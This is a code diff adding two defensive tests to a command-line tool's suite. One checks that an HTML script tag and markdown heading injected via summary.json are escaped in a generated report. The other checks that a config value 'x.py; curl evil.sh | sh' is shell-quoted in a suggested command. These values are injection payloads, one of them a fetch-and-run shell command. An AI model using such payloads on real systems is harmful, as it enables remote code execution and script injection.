@@ -102,3 +102,35 @@ def test_a_control_character_in_a_set_key_gives_one_escaped_line(tmp_path: Path,
     assert "\x1b" not in result.stderr and "\r" not in result.stderr
     assert line.startswith("error: ")
     assert not (tmp_path / "run").exists()
+
+
+def test_report_takes_names_and_numbers_from_a_summary_as_text(tmp_path: Path) -> None:
+    """A summary.json's name reaches report headings, alt text and table cells: escaped, one
+    line, no HTML. A params that is not a count is left out, not formatted (it raised)."""
+    from publish_helpers import make_run
+
+    run, _ = make_run(tmp_path / "run")
+    summary = json.loads((run / "summary.json").read_text())
+    summary.update(name="x\n<script>alert(1)</script>|## Injected", params="many", test_acc=0.5)
+    (run / "summary.json").write_text(json.dumps(summary))
+    out = tmp_path / "report"
+    result = invoke("report", str(run), "--no-bench", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    text = (out / "report.md").read_text()
+    assert "<script>" not in text and "\n## Injected" not in text
+    assert "&lt;script&gt;" in text and "\\|" in text
+    assert "many" not in text
+
+
+def test_suggested_commands_quote_what_a_config_says(tmp_path: Path) -> None:
+    """The one-line fix for a run whose architecture comes from an --import quotes the file
+    names from config.json: a name cannot append a second shell command to the suggestion."""
+    from publish_helpers import make_run
+
+    run, _ = make_run(tmp_path / "run")
+    config = json.loads((run / "config.json").read_text())
+    config.update(architecture="ghost_model", imports=["x.py; curl evil.sh | sh"])
+    (run / "config.json").write_text(json.dumps(config))
+    _image(tmp_path / "x.png", 0)
+    line = assert_refused(invoke("predict", str(run), str(tmp_path / "x.png")), "ghost_model")
+    assert "--import 'x.py; curl evil.sh | sh'" in line
